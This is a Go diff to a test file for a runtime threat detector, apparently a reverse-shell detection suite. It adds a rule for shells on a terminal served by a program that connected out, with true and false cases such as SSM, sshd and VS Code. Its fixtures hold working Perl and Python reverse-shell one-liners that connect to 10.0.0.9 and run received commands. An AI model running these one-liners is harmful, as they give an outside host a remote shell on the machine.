@@ -65,6 +65,7 @@ func scenarios() []scenario {
 		fedShell   = "Shell fed by a program that connected out"
 		ttylessSh  = "Interactive shell on pipes"
 		loopShell  = "Commands run by a one-line program that connected out"
+		ptyShell   = "Shell on a terminal served by a program that connected out"
 		pipeShell  = "Shell piped to a network client"
 		newBin     = "New binary executed in a container"
 		upperBin   = "Binary from the container's writable layer executed"
@@ -227,6 +228,11 @@ func scenarios() []scenario {
 	app := proc("python3", "/usr/bin/python3", "python3", "app.py")
 	appSh := childOf(proc("sh", "/bin/dash", "sh", "-c", "convert a.png b.jpg"), app)
 	perlLoop := proc("perl", "/usr/bin/perl", "perl", "-e", `use IO::Socket;$c=IO::Socket::INET->new("10.0.0.9:4444");while(<$c>){print $c `+"`$_`"+`}`)
+	ptyRelay := proc("python3", "/usr/bin/python3.12", "python3", "/tmp/.cache/r.py", "10.0.0.9")
+	ssmWorker := proc("ssm-session-worker", "/usr/bin/ssm-session-worker", "ssm-session-worker", "session-1")
+	vsServer := proc("node", "/root/.vscode-server/bin/f1e16e1e/node", "node", "/root/.vscode-server/bin/f1e16e1e/out/server-main.js")
+	vsPty := childOf(proc("node", "/root/.vscode-server/bin/f1e16e1e/node", "node", "/root/.vscode-server/bin/f1e16e1e/out/ptyHost.js"), vsServer)
+	sshdP := proc("sshd-session", "/usr/lib/openssh/sshd-session", "sshd-session: alice [priv]")
 	pyLoop := proc("python3", "/usr/bin/python3.12", "python3", "-u", "-c", "import socket,subprocess\ns=socket.create_connection(('10.0.0.9',443))\nwhile True:\n    s.sendall(subprocess.getoutput(s.recv(1024)))")
 	runner := proc("gitlab-runner", "/usr/bin/gitlab-runner", "gitlab-runner", "run")
 	runnerSh := childOf(proc("bash", "/usr/bin/bash", "bash", "--login"), runner)
@@ -274,6 +280,18 @@ func scenarios() []scenario {
 				execEv(childOf(proc("sh", "/usr/bin/dash", "sh", "-c", "id"), pyLoop), after(time.Second))), nil},
 		scenario{"a perl text filter (perl -pe) running date without a connection is not", loopShell, false,
 			evs(execEv(childOf(proc("sh", "/usr/bin/dash", "sh", "-c", "date"), proc("perl", "/usr/bin/perl", "perl", "-pe", "s/x/y/")))), nil},
+		scenario{"a Python pty relay that connected out serves bash -i on a terminal", ptyShell, true,
+			evs(connectEv(ptyRelay, "10.0.0.9", 4444), execEv(withTTY(childOf(proc("bash", "/usr/bin/bash", "bash", "--norc", "-i"), ptyRelay)), stdio("tty", "tty", "tty"), after(time.Second))), []int{0, 1}},
+		scenario{"AWS Session Manager's worker serving a shell is not", ptyShell, false,
+			evs(connectEv(ssmWorker, "52.94.1.10", 443), execEv(withTTY(childOf(proc("sh", "/usr/bin/dash", "sh"), ssmWorker)), stdio("tty", "tty", "tty"), after(time.Second))), nil},
+		scenario{"sshd checking a password with LDAP before the login shell is not", ptyShell, false,
+			evs(connectEv(sshdP, "10.0.5.5", 389), execEv(withTTY(childOf(proc("bash", "/usr/bin/bash", "-bash"), sshdP)), stdio("tty", "tty", "tty"), after(time.Second))), nil},
+		scenario{"a VS Code server terminal is not", ptyShell, false,
+			evs(connectEv(vsServer, "13.107.5.93", 443), execEv(withTTY(childOf(proc("bash", "/usr/bin/bash", "bash"), vsPty)), stdio("tty", "tty", "tty"), after(time.Second))), nil},
+		scenario{"a relay started by hand from an SSH session still is", ptyShell, true,
+			evs(connectEv(ptyRelay, "10.0.0.9", 4444), execEv(withTTY(childOf(proc("bash", "/usr/bin/bash", "bash", "-i"), ptyRelay)), stdio("tty", "tty", "tty"), after(time.Second))), []int{0, 1}},
+		scenario{"a relay's shell without a terminal is not this rule's (it is the pipe rule's)", ptyShell, false,
+			evs(connectEv(ptyRelay, "10.0.0.9", 4444), execEv(childOf(proc("bash", "/usr/bin/bash", "bash", "-i"), ptyRelay), stdio("pipe", "pipe", "pipe"), after(time.Second))), nil},
 		scenario{"a shell with no earlier connection is a partial sequence", fedShell, false,
 			evs(execEv(childOf(proc("sh", "/bin/dash", "sh"), proc("make", "/usr/bin/make", "make")), stdio("pipe", "pipe", "pipe"))), nil},
 	)
@@ -1049,6 +1067,7 @@ var wantType = map[string]string{
 	"Socket relay started a shell":                                "Execution:Runtime/ReverseShell",
 	"Interactive shell on pipes":                                  "Execution:Runtime/ReverseShell",
 	"Commands run by a one-line program that connected out":       "Execution:Runtime/ReverseShell",
+	"Shell on a terminal served by a program that connected out":  "Execution:Runtime/ReverseShell",
 	"Shell fed by a program that connected out":                   "Execution:Runtime/ReverseShell",
 	"Shell piped to a network client":                             "Execution:Runtime/ReverseShell",
 	"New binary executed in a container":                          "Execution:Runtime/NewBinaryExecuted",
